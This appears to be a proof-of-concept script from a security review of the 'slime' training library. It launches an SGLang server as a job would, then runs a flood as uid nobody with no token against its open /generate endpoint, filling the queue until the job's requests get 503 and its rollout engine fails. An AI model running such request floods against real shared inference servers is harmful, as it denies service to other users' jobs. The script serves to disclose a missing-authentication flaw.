"""Another local user (uid nobody, no token) fills the queue of a job's SGLang-protocol server
(sglang.launcher=slime) through the open /generate; the job's next request gets 503 and its
rollout engine raises ("SGLang generation failed"), which fails the rollout worker.

The server is launched exactly as a job launches it (SglangEngine.from_config, token set)."""
import os
import subprocess
import sys
import tempfile
import time

from slime.config import load_config
from slime.engines.contract import GenerationRequest, SamplingParams
from slime.engines.sglang.adapter import SglangEngine
from slime.model import ensure_model_dir
from slime.config import ModelConfig
from slime.security import new_secret

model_dir = str(ensure_model_dir(ModelConfig()))
out = tempfile.mkdtemp(prefix="hunt_m_sg_")
cfg = load_config(None, [f"output_dir={out}", f"model.path={model_dir}", "rollout.engine=sglang",
                         "rollout.max_running_requests=2", "sglang.launcher=slime",
                         "sglang.startup_timeout_s=120"])
engine = SglangEngine.from_config(cfg, model_dir, 0, 0, api_token=new_secret())
url = engine.server_urls[0]
flood = f"""
import httpx, threading, os
info = httpx.get("{url}/server_info").json()
body = {{"input_ids": [5, 12, 7], "sampling_params": {{"max_new_tokens": 509, "ignore_eos": True}}}}
codes = []
def one():
    for _ in range(1000):  # keep 2 running + 8 waiting: the queue stays full
        codes.append(httpx.post("{url}/generate", json=body, timeout=300).status_code)
threads = [threading.Thread(target=one, daemon=True) for _ in range(12)]
for t in threads: t.start()
print("attacker uid", os.getuid(), "(no token): 10 x /generate of", body["sampling_params"]["max_new_tokens"], "tokens", flush=True)
for t in threads: t.join(60)
"""
try:
    attacker = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                                 sys.executable, "-c", flood], env={**os.environ, "SLIME_API_TOKEN": ""})
    time.sleep(5)
    try:
        for i in range(20):
            engine.add_request(GenerationRequest(f"job-request-{i}", [5, 12, 7, 30], SamplingParams(max_new_tokens=4)))
            for _ in range(20):
                engine.step()
            print(f"job's request {i} served", flush=True)
    except RuntimeError as exc:
        print("job's rollout engine raised:", str(exc)[:200])
    attacker.kill()
finally:
    engine.close()
